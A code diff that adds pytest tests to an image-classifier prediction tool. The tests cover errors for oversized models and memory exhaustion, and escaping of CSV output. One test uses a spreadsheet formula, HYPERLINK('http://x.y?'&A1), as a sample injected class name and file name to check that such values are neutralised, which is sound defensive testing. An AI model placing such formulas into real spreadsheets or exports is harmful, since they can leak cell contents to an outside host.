@@ -15,6 +15,7 @@ from image_fixtures import encode
 from PIL import Image
 from trained_fixtures import CLASSES, about, write_model
 
+from gpufeed.errors import GpufeedError
 from gpufeed.predict import main
 from gpufeed.trained import images
 from gpufeed.trained.images import EMPTY, Found, Reader, find
@@ -134,6 +135,57 @@ def test_a_model_that_cannot_be_used_ends_with_2_and_plain_words(tmp_path, photo
     }
     assert words[case] in said.err
     assert "Traceback" not in said.err
+
+
+@pytest.mark.parametrize(
+    ("changes", "found"),
+    [
+        ({"height": 10**9, "width": 10**9}, "1,000,000,000 x 1,000,000,000 pixels"),
+        ({"height": 1, "width": 10**12}, "1 x 1,000,000,000,000 pixels"),
+        ({"hyper": [1]}, "weights that do not fit model simple_cnn"),
+        ({"hyper": {"channels": [2**40]}}, "weights that do not fit model simple_cnn"),
+    ],
+)
+def test_a_model_that_asks_for_too_much_ends_with_2_and_plain_words(tmp_path, photos, changes, found, capsys):
+    made = about()
+    if "hyper" in changes:
+        made["cell"]["hyper"]["model"] = changes["hyper"]
+    else:
+        made["input"] |= changes
+    path = write_model(tmp_path / "model.pt", **made)
+    assert main([str(path), str(photos), "--device", "cpu"]) == 2
+    assert found in capsys.readouterr().err
+    with pytest.raises(GpufeedError, match=found):
+        predict_to_csv(path, [str(photos)], tmp_path / "out.csv", "cpu")
+    assert not (tmp_path / "out.csv").exists()
+
+
+def test_memory_that_runs_out_ends_with_2_and_plain_words(model, photos, monkeypatch, capsys):
+    def out_of_memory(*_):
+        raise MemoryError
+
+    monkeypatch.setattr(images, "resized", out_of_memory)
+    assert main([model, str(photos), "--device", "cpu"]) == 2
+    assert "stopped: MemoryError" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'", "a", "1"])
+def test_no_text_of_a_csv_is_a_formula_and_json_is_exact(tmp_path, start, monkeypatch, capsys):
+    text = f'{start}HYPERLINK("http://x.y?"&A1)'
+    model = write_model(tmp_path / "model.pt", classes=[text, "green", "blue"])
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / f"{start}1.png").write_bytes(encode(picture(COLOURS["red"])))
+    asked = [str(model), "--device", "cpu", "--", f"{start}1.png", f"{start}gone.png"]
+    main(["--format", "csv", *asked])
+    with io.StringIO(capsys.readouterr().out, newline="") as out:
+        found, gone = csv.DictReader(out)
+    mark = "'" if start in "=+-@\t\r" else ""
+    assert (found["file"], found["class_1"]) == (f"{mark}{start}1.png", mark + text)
+    assert gone["file"] == f"{mark}{start}gone.png"
+    assert float(found["probability_1"]) > 0.9
+    main(["--format", "json", *asked])
+    first = json.loads(capsys.readouterr().out)[0]
+    assert (first["file"], first["classes"][0]["class"]) == (f"{start}1.png", text)
 
 
 @pytest.mark.parametrize(
